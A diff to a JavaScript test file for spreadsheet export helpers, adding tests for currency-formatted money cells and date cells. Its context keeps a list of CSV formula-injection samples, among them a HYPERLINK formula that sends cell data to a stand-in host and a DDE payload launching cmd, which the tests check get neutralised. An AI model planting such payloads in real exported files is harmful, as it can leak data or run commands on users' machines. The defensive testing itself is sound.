@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { csvCell, decimalCell, neutraliseText, xlsxCell } from './spreadsheet-cells.js';
+import { csvCell, currencyFormat, dateCell, decimalCell, moneyCell, neutraliseText, xlsxCell, xlsxFormat } from './spreadsheet-cells.js';
 
 describe('spreadsheet cells', () => {
   const attacks = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
@@ -35,5 +35,24 @@ describe('spreadsheet cells', () => {
     expect(csvCell(decimalCell('-1+1'))).toBe("'-1+1");
     expect(xlsxCell(decimalCell('=1+1'))).toBe("'=1+1");
     expect(csvCell(Number.NaN)).toBe('');
+  });
+
+  it('write money as numbers in their currency’s format, with its own decimals', () => {
+    expect(xlsxCell(moneyCell('60000000000', 'CNY'))).toBe(60_000_000_000);
+    expect(csvCell(moneyCell('1500.25', 'USD'))).toBe('1500.25');
+    expect(xlsxFormat(moneyCell('1500.25', 'USD'))).toBe('#,##0.00 "USD"');
+    expect(currencyFormat('JPY')).toBe('#,##0 "JPY"');
+    expect(currencyFormat('KWD')).toBe('#,##0.000 "KWD"');
+    expect(moneyCell(null, 'USD')).toBeNull();
+    expect(xlsxFormat(moneyCell('=1+1', 'USD'))).toBeUndefined();
+  });
+
+  it('write days as real dates in XLSX (midnight UTC) and as ISO text in CSV; anything else stays neutralised text', () => {
+    expect(xlsxCell(dateCell('2025-07-18'))).toEqual(new Date(Date.UTC(2025, 6, 18)));
+    expect(xlsxFormat(dateCell('2025-07-18'))).toBe('yyyy-mm-dd');
+    expect(csvCell(dateCell('2025-07-18'))).toBe('2025-07-18');
+    expect(dateCell(null)).toBeNull();
+    expect(xlsxCell({ date: '=NOW()' })).toBe("'=NOW()");
+    expect(xlsxFormat('Signed')).toBeUndefined();
   });
 });
